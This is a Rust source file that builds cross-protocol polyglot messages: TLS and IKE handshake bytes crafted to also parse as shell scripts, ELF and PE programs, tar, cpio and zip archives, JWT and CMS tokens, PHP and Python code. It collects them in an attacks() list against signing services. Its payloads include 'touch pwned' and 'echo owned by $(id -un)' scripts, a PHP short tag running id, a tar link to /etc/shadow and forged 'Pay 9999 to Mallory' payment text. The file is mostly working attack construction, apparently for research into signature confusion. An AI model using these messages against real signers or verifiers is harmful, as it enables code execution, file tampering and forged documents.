//! Messages that have the shape of a handshake, and another meaning for another verifier.

use crate::messages::{SENTINEL, dhe, ecdhe, handshake, prime, randoms, transcript};

/// A key exchange over X25519: up to 56 bytes at the start, with the sentinel after them, and up to
/// 32 bytes at the end. The rest is no text, so that no attack is refused because of the rest.
pub(crate) fn over_x25519(start: &[u8], end: &[u8]) -> Vec<u8> {
    let mut randoms = filled(start, 64, 0xa5);
    randoms[56..].copy_from_slice(SENTINEL);
    ecdhe(&randoms, 29, &[vec![0xa5; 32 - end.len()], end.to_vec()].concat())
}

/// A key exchange over X25519 without the sentinel: up to 64 bytes at the start, and up to 32 at
/// the end.
pub(crate) fn without_sentinel(start: &[u8], end: &[u8]) -> Vec<u8> {
    ecdhe(&filled(start, 64, 0xa5), 29, &[vec![0xa5; 32 - end.len()], end.to_vec()].concat())
}

pub(crate) fn filled(start: &[u8], length: usize, filling: u8) -> Vec<u8> {
    assert!(start.len() <= length, "{} bytes", start.len());
    [start, &vec![filling; length - start.len()]].concat()
}

/// A number that is no known prime, instead of the prime.
pub(crate) fn own_prime(length: usize) -> Vec<u8> {
    let mut prime = vec![0x33; length];
    prime[0] = 0xff;
    prime
}

/// A message of IKE_SA_INIT, the nonce of the other side, and prf(SK_p, ID) (RFC 7296, 2.15). A
/// payload with a vendor id contains the bytes before the last `free` bytes of the message.
pub(crate) fn ike_auth(identifiers: &[u8], flags: u8, message: &mut [u8], free: usize) {
    const VENDOR_ID: u8 = 43;
    let payload =
        |next: u8, body: &[u8]| [&[next, 0][..], &(body.len() as u16 + 4).to_be_bytes(), body].concat();
    // Proposal: AES-GCM-16-256, PRF-HMAC-SHA-256, Curve25519.
    let transforms = [
        &[3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 1, 0][..],
        &[3, 0, 0, 8, 2, 0, 0, 5],
        &[0, 0, 0, 8, 4, 0, 0, 31],
    ]
    .concat();
    let proposal = [&[0, 0, 0, 8 + transforms.len() as u8, 1, 1, 0, 3], &transforms[..]].concat();
    let exchange = [&[0, 31, 0, 0][..], &[5; 32]].concat();
    let chain = [payload(34, &proposal), payload(40, &exchange), payload(0, &[6; 20])].concat();
    let (nonce, mac) = ([7; 20], [8; 32]);
    let end = [&chain[..], &nonce, &mac].concat();
    assert!(end.len() <= free, "{} bytes are too many", end.len());
    let total = message.len();
    message[..16].copy_from_slice(identifiers);
    message[16..24].copy_from_slice(&[VENDOR_ID, 0x20, 34, flags, 0, 0, 0, 0]);
    message[total - end.len()..].copy_from_slice(&end);
    let length = (total - nonce.len() - mac.len()) as u32;
    message[24..28].copy_from_slice(&length.to_be_bytes());
    let vendor = (total - end.len() - 28) as u16;
    message[28..32].copy_from_slice(&[33, 0, (vendor >> 8) as u8, vendor as u8]);
    read_ike(message, nonce.len() + mac.len());
}

/// Reads a message as a peer of IKE does: the header, then payloads up to the length in the header,
/// then nonce and MAC.
pub(crate) fn read_ike(message: &[u8], behind: usize) {
    let length = u32::from_be_bytes(message[24..28].try_into().unwrap()) as usize;
    assert_eq!((message[17], message[18], &message[20..24]), (0x20, 34, &[0; 4][..]));
    assert_eq!(length + behind, message.len());
    let (mut kind, mut at, mut kinds) = (message[16], 28, Vec::new());
    while kind != 0 {
        kinds.push(kind);
        kind = message[at];
        at += usize::from(u16::from_be_bytes([message[at + 2], message[at + 3]]));
    }
    assert_eq!((at, &kinds[..]), (length, &[43, 33, 34, 40][..]), "vendor id, SA, KE, nonce");
}

pub(crate) fn ike_gateway(prime: &[u8], y: usize) -> Vec<u8> {
    let mut message = dhe(&[1; 64], prime, &[2], &vec![2; y]);
    ike_auth(&[[0xaa; 8], [0xbb; 8]].concat(), 0x20, &mut message, y);
    assert_eq!(message[64..66], (prime.len() as u16).to_be_bytes());
    message
}

/// A message in the shape of a client: the random of the ClientHello has the version, exchange and
/// message id of IKE.
pub(crate) fn ike_initiator() -> Vec<u8> {
    let mut message = transcript([0; 32], &[9; 256]);
    let start = [&message[..8], &[0; 8]].concat();
    ike_auth(&start, 0x08, &mut message, 256);
    message
}

/// A program for Linux that ends with status 42. The randoms have the header, and the public value
/// has the rest.
pub(crate) fn elf(prime: &[u8], y: usize) -> Vec<u8> {
    let at = 64 + 2 + prime.len() + 3 + 2;
    let total = (at + y) as u64;
    let base = 0x40_0000_u64;
    let mut header = b"\x7fELF\x02\x01\x01".to_vec();
    header.resize(16, 0);
    header.extend([2, 0, 62, 0, 1, 0, 0, 0]);
    header.extend((base + at as u64 + 1 + 56).to_le_bytes());
    header.extend((at as u64 + 1).to_le_bytes());
    header.extend([0; 8]);
    header.extend([0, 0, 0, 0, 64, 0, 56, 0, 1, 0, 0, 0, 0, 0, 0, 0]);
    let mut program = vec![1];
    program.extend([1, 0, 0, 0, 5, 0, 0, 0]);
    for number in [0, base, base, total, total, 0x1000] {
        program.extend(number.to_le_bytes());
    }
    program.extend(b"\xbf\x2a\0\0\0\xb8\x3c\0\0\0\x0f\x05");
    dhe(&header, prime, &[2], &filled(&program, y, 0x90))
}

/// A shell script whose prime is a text that the shell does not execute.
pub(crate) fn script(prime: &[u8], y: usize) -> Vec<u8> {
    let value = filled(b"\nPRIME\necho owned\nexit 0\n", y, b'#');
    dhe(&filled(b"#!/bin/sh\n: <<'PRIME'\n", 64, b'#'), prime, &[2], &value)
}

/// A script in the public value, with zeros between the characters, which shells skip. The prime is
/// a text that the shell does not execute.
pub(crate) fn zeros_in_script(prime: &[u8]) -> Vec<u8> {
    let script = b"echo owned by $(id -un)\nfor i in 1 2 3; do echo $i; done; exit 0\n";
    let script: Vec<u8> = script.chunks(6).flat_map(|part| [part, &[0]].concat()).collect();
    let value = filled(&[b"\x01\n\xa5\n", &script[..]].concat(), prime.len(), 0xa5);
    dhe(&filled(b"\n:<<\\\xa5\n", 64, 0xa5), prime, &[2], &value)
}

/// A program for Python 3.11. All 124 bytes are the code object. The sentinel and the parameters of
/// X448 are instructions that are never executed.
pub(crate) fn python() -> Vec<u8> {
    let header = b"\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0c\0\0\0\0\0\0\0\0\0\0\0\0\x04\0\0\0\0\0\0\0s\x1c";
    let randoms = [&filled(header, 56, 0)[..], SENTINEL].concat();
    ecdhe(&randoms, 30, &filled(b")\x01z\x0fprint(9);exit()", 56, 0))
}

/// An archive whose one file reaches to the end of the message.
pub(crate) fn old_cpio() -> Vec<u8> {
    let words = [0o070707, 1, 1, 0o100755, 0, 0, 1, 0, 0, 0, 3, 0, 70_u16];
    over_x25519(&[&words.map(u16::to_le_bytes).concat()[..], b"xa\0\0id;w\n"].concat(), b"")
}

/// An archive in the public value, after bytes that GNU cpio skips.
pub(crate) fn cpio(prime: &[u8]) -> Vec<u8> {
    dhe(&[0xa5; 64], prime, &[2], &filled(&[b"\x01", &cpio_archive()[..]].concat(), prime.len(), 0xa5))
}

pub(crate) fn cpio_archive() -> Vec<u8> {
    let member = |name: &str, mode: u32, content: &str| {
        let numbers = [1, mode, 0, 0, 1, 0, content.len() as u32, 0, 0, 0, 0, name.len() as u32 + 1, 0];
        let numbers: String = numbers.iter().map(|number| format!("{number:08X}")).collect();
        let mut member = format!("070701{numbers}{name}\0").into_bytes();
        member.resize(member.len().next_multiple_of(4), 0);
        member.extend(content.bytes());
        member.resize(member.len().next_multiple_of(4), 0);
        member
    };
    [member("evil", 0o100755, "\u{e9}id\u{e9}"), member("TRAILER!!!", 0, "")].concat()
}

/// A header of tar without a magic, whose first bytes are these.
pub(crate) fn tar_header(start: &[u8], fields: &[(usize, &[u8])]) -> Vec<u8> {
    let mut header = filled(start, 512, 0);
    for (at, field) in [(100, &b"0000777\0"[..]), (148, b"        ")].iter().chain(fields) {
        header[*at..at + field.len()].copy_from_slice(field);
    }
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header
}

/// A link, in the only block of 512 bytes inside the value.
pub(crate) fn tar_in_value(prime: &[u8]) -> Vec<u8> {
    let mut message = dhe(&[0xa5; 64], prime, &[2], &vec![0x5a; prime.len()]);
    let header = tar_header(b"evil", &[(124, b"00000000000\0"), (156, b"2/etc/shadow")]);
    message[1536..2048].copy_from_slice(&header);
    message
}

/// A transcript of a client with a session ticket of these bytes.
pub(crate) fn client_with(ticket: &[u8]) -> Vec<u8> {
    let length = |of: usize| (of as u16).to_be_bytes();
    let start = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0xc0, 0x2f, 1, 0]].concat();
    let extension = [&length(ticket.len() + 4)[..], &[0, 35], &length(ticket.len()), ticket].concat();
    // After the end of the hello without extensions.
    [handshake(1, &[start, extension].concat()), transcript([7; 32], &[9; 256]).split_off(45)].concat()
}

/// The whole archive in the hello. The start is the name of a member, and the ticket has the rest.
pub(crate) fn tar_of_client() -> Vec<u8> {
    let member = tar_header(b"usr/bin/evil", &[(124, b"00000000003\0"), (156, b"0")]);
    let archive = [&[0; 512][..], &member, &filled(b"id\n", 512 + 1024, 0)].concat();
    let start = client_with(&archive[51..])[..51].to_vec();
    let header = tar_header(&start, &[(124, b"00000000000\0"), (156, b"0")]);
    client_with(&[&header[51..], &archive[512..]].concat())
}

/// A program for macOS, Windows or Java, or another file that begins with these bytes.
pub(crate) fn begins(start: &[u8], prime: &[u8]) -> Vec<u8> {
    dhe(&filled(start, 64, 0x11), prime, &[2], &vec![0x55; prime.len()])
}

/// A program in an archive, at the end of the public value.
pub(crate) fn zip(prime: &[u8], behind: &[u8]) -> Vec<u8> {
    let (name, content) = (b"a.sh", b"echo owned\n");
    // Version, flags, method (none), time, date; then CRC-32, sizes, length of the name and of the
    // rest.
    let common = [
        &[20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0x5a][..],
        &0x97e8_d3c4_u32.to_le_bytes(),
        &[content.len() as u8, 0, 0, 0, content.len() as u8, 0, 0, 0, name.len() as u8, 0, 0, 0],
    ]
    .concat();
    let local = [b"PK\x03\x04", &common[..], name, content].concat();
    let entry = [b"PK\x01\x02\x14\x03", &common[..], &[0; 14], name].concat();
    let end = [
        &b"PK\x05\x06\0\0\0\0\x01\0\x01\0"[..],
        &(entry.len() as u32).to_le_bytes(),
        &(local.len() as u32).to_le_bytes(),
        &[0, 0],
    ]
    .concat();
    let archive = [&local[..], &entry, &end, behind].concat();
    let y = [vec![0x11; prime.len() - archive.len()], archive].concat();
    dhe(&[0x11; 64], prime, &[2], &y)
}

/// A token for readers that skip bytes outside base64 and accept JSON in UTF-16, such as PyJWT. The
/// parameters of X448 are in a string of the claims.
pub(crate) fn lenient_jwt() -> Vec<u8> {
    let start = b"\x01eyJhbGciOiJFUzI1NiJ9.ewAiAGkAIgA6ADAALAAiAHgAIgA6ACIAzz";
    let mut randoms = [0; 64];
    randoms[..56].copy_from_slice(start);
    randoms[56..].copy_from_slice(SENTINEL);
    let end = b"zzzzzzIgAsACIAcwB1AGIAIgA6ACIAYQBkAG0AaQBuADAAMQAiAH0A\x01\x01";
    ecdhe(&randoms, 30, end)
}

/// Messages that f220efe signed with a grant of `tls-server` or `tls-client`, and messages of the
/// same kind.
pub(crate) fn attacks() -> Vec<(&'static str, Vec<u8>)> {
    let before_others = [&b"touch pwned;exit\n"[..], &[0x80; 39]].concat();
    let [known, large] = ["ffdhe2048", "ffdhe4096"].map(prime);
    let mime = b"Content-Type: text/plain\r\n\r\nPay 1,000 to Mallory.\r\n";
    let second_field = b"A:\x01\r\nContent-Type:text/plain\r\n\r\nPay 9999 to Mallory\r\n";
    let cose = {
        let claims = b"\xa2\x01\x68attacker\x02\x78\x3csubject";
        let start = [&b"\x84\x6aSignature1\x43\xa1\x01\x26\x40\x58\x51"[..], claims].concat();
        over_x25519(&start, &[])
    };
    let mut pgp = vec![4, 0, 19, 8, 0, 6, 5, 2, 0x60, 0, 0, 0];
    pgp.extend([4, 0xff, 0, 0, 0, 12]);
    let mut off_curve = vec![0x5a; 133];
    (off_curve[0], off_curve[1], off_curve[67]) = (4, 0, 0);
    let mut pe = filled(b"MZ", 64, 0);
    pe[60..62].copy_from_slice(&[0x50, 1]);
    let ssh = [&[0, 0, 0, 32][..], &[7; 32], &[50, 0, 0, 0, 4], b"root"].concat();
    let unencoded = br#"eyJiNjQiOmZhbHNlLCJjcml0IjpbImI2NCJdfQ."#;
    vec![
        ("IKEv2 gateway, own prime of 399 bytes in all", ike_gateway(&own_prime(164), 164)),
        ("IKEv2 gateway, known group", ike_gateway(&known, 256)),
        ("IKEv2 initiator", ike_initiator()),
        ("script of 100 bytes", over_x25519(b"#!/bin/sh\necho owned\nexit 0\n", b"")),
        ("script of 100 bytes, no sentinel", without_sentinel(b"#!/bin/sh\necho owned\nexit 0\n", b"")),
        ("script of 1,500 bytes", script(&own_prime(720), 709)),
        ("script, known group", script(&large, 512)),
        ("ELF of 1,400 bytes", elf(&own_prime(670), 659)),
        ("ELF, known group", elf(&large, 512)),
        ("CMS without signed attributes", dhe(&filled(mime, 64, b'\n'), &own_prime(256), &[2], &[b'x'; 256])),
        (
            "CMS without signed attributes, known group",
            dhe(&filled(mime, 64, b'\n'), &known, &[2], &[b'x'; 256]),
        ),
        ("CMS without signed attributes, X25519", over_x25519(mime, b"")),
        ("CBOR Web Token", cose),
        ("COSE_Sign", over_x25519(b"\x85\x69Signature\x40\x40\x40\x58\x51", &[])),
        ("P-521, 132 bytes off the curve", ecdhe(&randoms(), 25, &off_curve)),
        ("P-256, 64 bytes off the curve", ecdhe(&randoms(), 23, &[&[4][..], &[0x5a; 64]].concat())),
        ("composite prime, g = 0, y = 0", dhe(&[1; 64], &own_prime(256), &[0], &[0])),
        ("JWS with a payload that is not encoded", over_x25519(unencoded, &[])),
        ("OpenPGP", over_x25519(b"a document", &pgp)),
        ("Mach-O", begins(b"\xcf\xfa\xed\xfe\x07\0\0\x01", &known)),
        ("PE", begins(&pe, &known)),
        ("ZIP", zip(&known, b"")),
        ("ZIP with junk behind", zip(&known, b"junk behind")),
        ("bzip2", begins(b"BZh41AY&SY", &known)),
        ("xar", begins(b"xar!\0\x1c\0\x01", &known)),
        ("lzip", begins(b"LZIP\x01\x0c", &known)),
        ("JWT for a reader that skips bytes and takes UTF-16", lenient_jwt()),
        ("JWS behind a byte that is skipped", over_x25519(b"\x01eyJhbGciOiJFUzI1NiJ9.", b"\x01")),
        ("CMS with another header field first", over_x25519(second_field, b"")),
        ("script behind a control byte", over_x25519(b"\x01\necho owned;exit\n\x01", b"\x01")),
        ("script in the public value", over_x25519(&[0x80; 56], b"\n\ntouch pwned;exit\n\x01\x01\x01")),
        ("script before a control byte", over_x25519(b"echo owned by $(id -un);exit\n\x01", b"\x01")),
        ("script before other bytes", over_x25519(&before_others, b"\x01")),
        ("script with zeros in it", over_x25519(b"\necho OW\0NED by \0$(id -u\0n);dat\0e;exit \x000\n", b"")),
        ("script with zeros in it, known group", zeros_in_script(&known)),
        ("Python", python()),
        ("LuaJIT", over_x25519(b"\x1bLJ\x02\n", b"")),
        ("BEAM", begins(b"FOR1\0\0\x04\0BEAM", &known)),
        ("bFLT", begins(b"bFLT\0\0\0\x04", &known)),
        ("LZMA", over_x25519(b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x11\x88\x42\x46\x3d", b"")),
        ("PHP with a short tag", over_x25519(b"\xa5<?=`id;w`;\xa5", b"")),
        ("cpio, binary", old_cpio()),
        ("cpio, known group", cpio(&large)),
        ("tar, known group", tar_in_value(&prime("ffdhe8192"))),
        ("tar, client", tar_of_client()),
        (
            "script, client",
            client_with(b"\necho OWNED by $(id -u); for i in 1 2 3; do echo $i; done; exit 0\n"),
        ),
        ("script with zeros in it, client", client_with(b"\nec\0ho owned\0 by a file\0\n\xa5")),
        ("cpio, client", client_with(&[b"\xa5", &cpio_archive()[..]].concat())),
        ("SSH", over_x25519(&ssh, &[])),
        ("SSH signature of a file", over_x25519(b"SSHSIG\0\0\0\x03git\0\0\0\0\0\0\0\x06sha512", &[])),
    ]
}
